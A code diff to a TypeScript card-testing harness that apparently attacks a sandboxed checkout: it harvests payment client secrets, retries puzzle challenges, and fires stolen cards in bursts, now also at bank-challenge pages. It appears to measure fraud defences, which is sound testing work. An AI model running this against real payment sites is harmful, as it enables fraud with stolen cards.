@@ -7,11 +7,15 @@ export interface AttackedSite {
   readonly sandboxUrl: string
 }
 
-/** What a beginning came to; `secret`: that with which cards can be tried, a client secret or the address of the provider's page. */
-export type Beginning = { readonly secret: string } | { readonly code: string }
+/**
+ * What a beginning came to; `secret`: that with which cards can be tried, a client secret or the address of the provider's page. `page`:
+ * the provider's page on which the bank is asked who pays, where it knows the card.
+ */
+export type Beginning = { readonly secret: string } | { readonly code: string; readonly page?: string }
 
 interface Problem {
   readonly code: string
+  readonly url?: string
   readonly puzzle?: { readonly ticket: string; readonly goal: string; readonly most: number }
 }
 
@@ -51,13 +55,13 @@ export async function beginAt(
   body: object = {},
 ): Promise<Beginning> {
   const answer = await ask(`${site.url}/api/create-payment-intent`, address, body, works)
-  if (!answer.ok) return { code: ((await answer.json()) as Problem).code }
-  return { secret: ((await answer.json()) as { clientSecret: string }).clientSecret }
+  if (answer.ok) return { secret: ((await answer.json()) as { clientSecret: string }).clientSecret }
+  const { code, url } = (await answer.json()) as Problem
+  return { code, ...(url === undefined ? {} : { page: url }) }
 }
 
 /**
  * Asks for the provider's page as the form without scripts does; who `works` works out what our form is asked for at the same address.
- * A page on which the bank is asked who pays proves each card, so that none can be tried there.
  */
 async function openPageAt(site: AttackedSite, address: string, works: boolean): Promise<Beginning> {
   let proof: string | null = null
@@ -70,7 +74,7 @@ async function openPageAt(site: AttackedSite, address: string, works: boolean): 
     })
     await answer.arrayBuffer()
     const page = answer.headers.get('location')
-    if (page !== null) return (await asksTheBank(site, page)) ? { code: 'challenge_required' } : { secret: page }
+    if (page !== null) return (await asksTheBank(site, page)) ? { code: 'challenge_required', page } : { secret: page }
     const form = await ask(`${site.url}/api/create-payment-intent`, address, {}, false)
     const { code, puzzle } = (await form.json()) as Problem
     if (!works || asked === 3 || !puzzle) return { code }
@@ -153,6 +157,8 @@ export interface Burst {
   readonly secrets: number
   readonly codes: Readonly<Record<string, number>>
   readonly reached: number
+  /** Pages on which the bank is asked, and how many cards reached it there that it knows nothing of. */
+  readonly checked: { readonly pages: number; readonly reached: number }
 }
 
 /** Gathers secrets first, from these addresses one after another, and then tries stolen cards with all of them at once. */
@@ -162,29 +168,36 @@ export async function burst(
   { road = 'form', works, tries, atOnce, apart = 0 }: Tester,
 ): Promise<Burst> {
   const secrets: string[] = []
+  const pages: string[] = []
   const codes: Record<string, number> = {}
   for (const address of addresses) {
     const begun = await roads[road].begin(site, address, works)
     if ('secret' in begun) secrets.push(begun.secret)
-    else codes[begun.code] = (codes[begun.code] ?? 0) + 1
+    else {
+      codes[begun.code] = (codes[begun.code] ?? 0) + 1
+      if (begun.page !== undefined) pages.push(begun.page)
+    }
   }
-  let reached = 0
-  const press = async (secret: string) => {
-    const status = await roads[road].try(site, secret)
-    if (status === 402) reached++
-    return status
+  /** Tries cards on one, and answers how many reached its bank. */
+  const tried = async (one: () => Promise<number>): Promise<number> => {
+    if (atOnce) return (await Promise.all(Array.from({ length: tries }, one))).filter((status) => status === 402).length
+    for (let number = 0; number < tries; number++) {
+      if (number > 0 && apart > 0) await setTimeout(apart)
+      if ((await one()) !== 402) return number
+    }
+    return tries
   }
-  await Promise.all(
-    secrets.map(async (secret) => {
-      if (atOnce) await Promise.all(Array.from({ length: tries }, () => press(secret)))
-      else
-        for (let number = 0; number < tries; number++) {
-          if (number > 0 && apart > 0) await setTimeout(apart)
-          if ((await press(secret)) !== 402) return
-        }
-    }),
-  )
-  return { secrets: secrets.length, codes, reached }
+  const sum = (counts: readonly number[]) => counts.reduce((all, count) => all + count, 0)
+  const [reached, reachedThere] = await Promise.all([
+    Promise.all(secrets.map((secret) => tried(() => roads[road].try(site, secret)))),
+    Promise.all(pages.map((page) => tried(() => typeCard(page)))),
+  ])
+  return {
+    secrets: secrets.length,
+    codes,
+    reached: sum(reached),
+    checked: { pages: pages.length, reached: sum(reachedThere) },
+  }
 }
 
 /** Tries stolen cards as a wallet's page would, each by a token on a draft of its own, all at once. Answers how many reached a bank. */
